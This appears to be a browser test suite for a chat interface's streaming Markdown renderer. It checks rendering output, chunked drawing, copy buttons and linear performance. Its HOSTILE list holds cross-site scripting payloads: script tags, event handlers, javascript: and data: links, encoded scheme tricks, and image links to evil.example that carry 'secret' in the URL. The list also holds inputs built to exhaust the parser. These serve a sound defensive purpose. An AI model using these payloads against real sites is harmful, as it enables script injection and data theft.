"""Markdown of answers: what becomes of it, that nothing in it can do harm, and that a long one costs
time in proportion to its length."""

import random

import servers
from browser import PageTest, expect

# An answer, and what stands in the page (code blocks without their copy button).
GOLDENS = [
    ("plain\nlines\n\nand more", "<p>plain<br>lines</p><p>and more</p>"),
    ("**bold** *it* ***both*** _it_ __bold__ ~~gone~~",
     "<p><strong>bold</strong> <em>it</em> <em><strong>both</strong></em> <em>it</em> "
     "<strong>bold</strong> <del>gone</del></p>"),
    ("2 * 3 * 4, snake_case_name, **open, a*b*c",
     "<p>2 * 3 * 4, snake_case_name, **open, a<em>b</em>c</p>"),
    ("**a *b***", "<p><strong>a <em>b</em></strong></p>"),
    ("`code *x*` and ``a ` b`` and ` open",
     "<p><code>code *x*</code> and <code>a ` b</code> and ` open</p>"),
    ("\\*not\\* \\# and \\(x\\)", "<p>*not* # and \\(x\\)</p>"),
    ("# One\n## Two ##\n###### Six\n#no",
     '<h3 class="level-1">One</h3><h4 class="level-2">Two</h4><h6 class="level-6">Six</h6>'
     "<p>#no</p>"),
    ("- a\n- b\n  - c\n    more\n- d\n\nafter",
     "<ul><li><p>a</p></li><li><p>b</p><ul><li><p>c<br>more</p></li></ul></li><li><p>d</p></li></ul>"
     "<p>after</p>"),
    ("3. c\n4. d\n   - x", '<ol start="3"><li><p>c</p></li><li><p>d</p><ul><li><p>x</p></li></ul></li></ol>'),
    ("text\n- a\n1. b", "<p>text</p><ul><li><p>a</p></li></ul><ol><li><p>b</p></li></ol>"),
    ("In\n1986. A year", "<p>In<br>1986. A year</p>"),
    ("1. a\n\n   ```py\n   x = 1\n     y\n   ```\n2. b",
     "<ol><li><p>a</p><code py>x = 1\n  y\n</code></li><li><p>b</p></li></ol>"),
    ("> quote\n> > deeper\n\nout",
     "<blockquote><p>quote</p><blockquote><p>deeper</p></blockquote></blockquote><p>out</p>"),
    ("```c++\nint <b>x</b>;\n\n# no\n```\nafter", "<code c++>int &lt;b&gt;x&lt;/b&gt;;\n\n# no\n</code><p>after</p>"),
    ("~~~\n```\n~~~", "<code >```\n</code>"),
    ("````\n```\n````", "<code >```\n</code>"),
    ("```\nopen", "<code >open\n</code>"),
    ("| a | b |\n|---|--:|\n| 1 | 2 \\| 3 |\n| x |\n\nend",
     '<table><thead><tr><th>a</th><th class="right">b</th></tr></thead><tbody><tr><td>1</td>'
     '<td class="right">2 | 3</td></tr><tr><td>x</td><td class="right"></td></tr></tbody></table>'
     "<p>end</p>"),
    ("a | b\nno table", "<p>a | b<br>no table</p>"),
    ("a\n\n---\n\n***", "<p>a</p><hr><hr>"),
    ("[x](https://a.example/b_(c)) <https://d.example> https://e.example/f.",
     '<p><a href="https://a.example/b_(c)">x</a> <a href="https://d.example/">https://d.example</a> '
     '<a href="https://e.example/f">https://e.example/f</a>.</p>'),
    ('[*a* b](mailto:me@a.example "title") [no]', '<p><a href="mailto:me@a.example"><em>a</em> b</a> [no]</p>'),
    ("[https://a.example](https://b.example)", '<p><a href="https://b.example/">https://a.example</a></p>'),
    ("![alt](https://a.example/x.png)",
     '<p><span class="unloaded" title="Not loaded: https://a.example/x.png">picture: alt</span></p>'),
    ("a<br>b < c & d &amp; <i>e</i>", "<p>a<br>b &lt; c &amp; d &amp;amp; &lt;i&gt;e&lt;/i&gt;</p>"),
    ("\u4f60\u597d **\u4f60\u597d** \U0001f999", "<p>\u4f60\u597d <strong>\u4f60\u597d</strong> \U0001f999</p>"),
]

HOSTILE = [
    "<script>document.title = 'taken'</script>",
    "<img src=x onerror=\"document.title = 'taken'\">",
    "<svg onload=\"document.title = 'taken'\"><iframe src=\"https://evil.example\"></iframe>",
    "<style>body { display: none }</style><base href=\"https://evil.example\">",
    "[x](javascript:document.title='taken')",
    "[x](JaVaScRiPt:alert(1)) [y](java\tscript:alert(1)) [z](<java\nscript:alert(1)>)",
    "[x](&#106;avascript:alert(1)) [y](\x01javascript:alert(1)) [z](%6aavascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>) [y](vbscript:x) [z](blob:x) [w](file:///etc/passwd)",
    "<javascript:alert(1)> <data:text/html,x> <https://a.example/\"onclick=alert(1)>",
    "![x](https://evil.example/steal?q=secret) ![](//evil.example/x.png) ![x](javascript:alert(1))",
    "[![x](https://evil.example/x.png)](javascript:alert(1))",
    "https://evil.example/\" onmouseover=\"alert(1)",
    "[x](https://a.example \"title\" onclick=alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "```<script>alert(1)</script>\ncode\n",
    "```\"><img src=x onerror=alert(1)>\ncode\n```",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "<details open ontoggle=alert(1)>x</details><form action=https://evil.example><input name=x>",
    "<!--<img src=--><img src=x onerror=alert(1)>-->",
    "<a href=\"javascript:alert(1)\">x</a><meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "\u202etxet sdrawkcab\u202c \u0000 \ufffd \ud7ff",
    "```\n" + "```" * 2000 + "\nnever closed",
    "> " * 5000 + "deep",
    "- " * 3000 + "deep",
    "\n".join("  " * i + "- deep" for i in range(400)),
    "*" * 20000,
    "**a " * 5000 + "b** " * 5000,
    "[" * 20000 + "](x)" * 2000,
    "![" * 9000 + "](https://a.example)" * 1000,
    "`" * 5001 + "x" + "".join("`" * i + " " for i in range(1, 120)),
    "[a](" * 8000,
    "<" * 20000,
    "|" * 20000 + "\n" + "|-" * 10000 + "|\n" + "|" * 20000,
    "https://" * 5000,
    "\\" * 20000,
    "_" + "a_" * 10000,
    "1." * 10000,
    "#" * 20000,
]

# Of each text, drawn in pieces of these sizes, the HTML; with the code blocks made short. What has not
# ended is as a reader sees it while it is written.
RENDER = """async (cases) => {
  const {Markdown} = await import("/page/markdown.js");
  return cases.map(([text, sizes, ended]) => {
    const root = document.createElement("div");
    const markdown = new Markdown(root);
    let at = 0;
    for (let i = 0; at < text.length; ++i) {
      const size = sizes[i % sizes.length];
      markdown.push(text.slice(at, at + size));
      at += size;
      markdown.draw();
    }
    if (ended) markdown.end();
    for (const figure of root.querySelectorAll("figure.code")) {
      figure.replaceWith(`\\u0001code ${figure.querySelector("figcaption span").textContent}\\u0002` +
                         figure.querySelector("code").textContent + "\\u0001/code\\u0002");
    }
    for (const wrapper of root.querySelectorAll("div.table")) wrapper.replaceWith(...wrapper.childNodes);
    for (const link of root.querySelectorAll("a")) {
      if (link.target !== "_blank" || link.rel !== "noopener noreferrer") throw new Error("a bare link");
      link.removeAttribute("target");
      link.removeAttribute("rel");
    }
    return root.innerHTML.replaceAll("\\u0001", "<").replaceAll("\\u0002", ">");
  });
}"""

# How many nodes and characters were put into the page for a text that came in pieces.
WORK = """async ([text, size]) => {
  const {Markdown} = await import("/page/markdown.js");
  const root = document.createElement("div");
  let nodes = 0, characters = 0;
  const seen = (records) => {
    for (const record of records) {
      if (record.type === "characterData") characters += size;
      for (const node of record.addedNodes) {  // with all that is in it
        nodes += 1 + (node.querySelectorAll?.("*").length ?? 0);
        characters += node.textContent.length;
      }
    }
  };
  const observer = new MutationObserver(seen);
  observer.observe(root, {childList: true, subtree: true, characterData: true});
  const markdown = new Markdown(root);
  const before = performance.now();
  for (let at = 0; at < text.length; at += size) {
    markdown.push(text.slice(at, at + size));
    markdown.draw();
    seen(observer.takeRecords());
  }
  markdown.end();
  seen(observer.takeRecords());
  return {nodes, characters, milliseconds: performance.now() - before, text: root.textContent.length};
}"""


class MarkdownTest(PageTest):
    @classmethod
    def setUpClass(cls):
        cls.real = servers.start()
        cls.server = servers.Scripted(cls.real.address)

    @classmethod
    def tearDownClass(cls):
        cls.server.stop()
        assert cls.real.stop() == 0

    def open(self):
        page = super().open(self.server.address)
        self.ready(page)
        return page

    def test_what_models_write_looks_as_they_mean_it(self):
        page = self.open()
        drawn = page.evaluate(RENDER, [[text, [len(text)], True] for text, _ in GOLDENS])
        for (text, expected), html in zip(GOLDENS, drawn, strict=True):
            with self.subTest(text):
                self.assertEqual(html, expected)

    def test_an_answer_in_pieces_looks_as_the_whole_one(self):
        page = self.open()
        rng = random.Random(5)
        texts = [text for text, _ in GOLDENS] + [text[:2000] for text in HOSTILE]
        words = ["word", "*", "**", "_", "`", "```\n", "\n", "\n\n", "- ", "  - ", "1. ", "# ", "> ", "|",
                 "|---|\n", "[a](", "https://a.example", ")", "]", "![", "<br>", "\\", " ", "  ", "~~", "---\n"]
        texts += ["".join(rng.choices(words, k=rng.randint(5, 60))) for _ in range(400)]
        cases = [(text, [max(1, len(text))], ended) for text in texts for ended in (True, False)]
        whole = page.evaluate(RENDER, cases)
        for piece in range(4):
            sizes = [1] if piece == 0 else [rng.randint(1, 7) for _ in range(9)]
            cut = page.evaluate(RENDER, [(text, sizes, ended) for text, _, ended in cases])
            for (text, _, ended), html, expected in zip(cases, cut, whole, strict=True):
                with self.subTest(text[:200], sizes=sizes, ended=ended):
                    self.assertEqual(html, expected)

    def test_nothing_that_a_model_writes_does_anything(self):
        page = self.open()
        title = page.title()
        for text in HOSTILE:
            with self.subTest(text[:80]):
                self.server.says(text, [text[i : i + 997] for i in range(0, len(text), 997)])
                self.ask(page, "hello")
                self.ended(page)
                body = self.answer(page).locator(".markdown")
                found = body.evaluate(
                    """(node) => {
                         const bad = [];
                         const names = new Set(("p br strong em del code h3 h4 h5 h6 ul ol li blockquote hr a "
                           + "span div table thead tbody tr th td figure figcaption pre button").split(" "));
                         const attributes = new Set(
                           "class href target rel title start tabindex role aria-label type".split(" "));
                         let deepest = 0;
                         for (const child of node.querySelectorAll("*")) {
                           if (!names.has(child.localName)) bad.push(child.localName);
                           for (const {name} of child.attributes) if (!attributes.has(name)) bad.push(name);
                           if (child.localName === "a" && !["http:", "https:", "mailto:"].includes(child.protocol)) {
                             bad.push(child.href);
                           }
                           let depth = 0;
                           for (let at = child; at !== node; at = at.parentElement) depth += 1;
                           deepest = Math.max(deepest, depth);
                         }
                         return {bad, deepest, text: node.textContent.length};
                       }"""
                )
                self.assertEqual(found["bad"], [])
                self.assertLess(found["deepest"], 120)
                self.assertGreater(found["text"], 0)
                self.assertEqual(page.title(), title)
                page.get_by_role("button", name="New chat").click()
        expect(page.locator("#question")).to_be_visible()

    def test_a_code_block_is_copied_as_it_was_written(self):
        code = "int main() {\n\treturn 0;  // <ok>\n}\n"
        self.server.says(f"Here:\n\n```c\n{code}```\n")
        page = self.open()
        page.context.grant_permissions(["clipboard-read", "clipboard-write"])
        self.ask(page, "hello")
        self.ended(page)
        block = page.locator("figure.code")
        block.get_by_role("button", name="Copy").click()
        expect(block.get_by_role("button")).to_have_text("Copied")
        self.assertEqual(page.evaluate("navigator.clipboard.readText()"), code)
        whole = self.answer(page).locator(".answer-foot .actions > button")
        whole.click()
        expect(whole).to_have_text("Copied")
        self.assertEqual(page.evaluate("navigator.clipboard.readText()"), f"Here:\n\n```c\n{code}```\n")

    def test_work_grows_with_the_text_and_no_faster(self):
        page = self.open()
        kinds = {
            "paragraphs": "Some words with *emphasis* and `code` in them.\n\n",
            "one line": "words without an end ",
            "code": "    int x = 1;  // a line of code\n",
            "list": "- an item of a list\n",
            "table": "| a | b |\n",
            "quote": "> a line of a quote\n",
            "openers": "*a [b `c ",
        }
        before = {"code": "```\n", "table": "| a | b |\n|---|---|\n"}
        for name, unit in kinds.items():
            with self.subTest(name):
                text = lambda length: before.get(name, "") + unit * (length // len(unit))
                half = page.evaluate(WORK, [text(1 << 18), 512])
                whole = page.evaluate(WORK, [text(1 << 19), 512])
                # Each of the pieces draws the last block again, which has a limit: twice the text
                # is twice the work. A tenth more for where the two end.
                self.assertLess(whole["nodes"], 2.2 * half["nodes"])
                self.assertLess(whole["characters"], 2.2 * half["characters"])

    def test_a_megabyte_is_shown(self):
        line = "A line of some words, **bold** and plain, as a model would write it.\n\n"
        text = line * ((1 << 20) // len(line))
        self.server.says(text, [text[i : i + 4096] for i in range(0, len(text), 4096)])
        page = self.open()
        self.ask(page, "hello")
        self.ended(page)
        expect(self.answer(page).locator(".markdown > p")).to_have_count(text.count("\n\n"))
        self.ask(page, "and more")  # it still hears
        expect(page.locator(".answer")).to_have_count(2)
